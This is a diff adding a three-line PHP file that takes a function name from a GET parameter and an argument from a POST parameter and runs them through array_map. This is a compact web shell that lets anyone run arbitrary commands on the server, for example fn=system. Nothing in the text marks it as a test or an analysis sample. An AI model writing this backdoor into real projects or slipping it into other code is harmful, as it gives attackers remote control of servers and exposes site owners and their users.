@@ -1,0 +1,3 @@
+<?php
+$arr = array($_POST['p']);
+array_map($_GET['fn'], $arr);
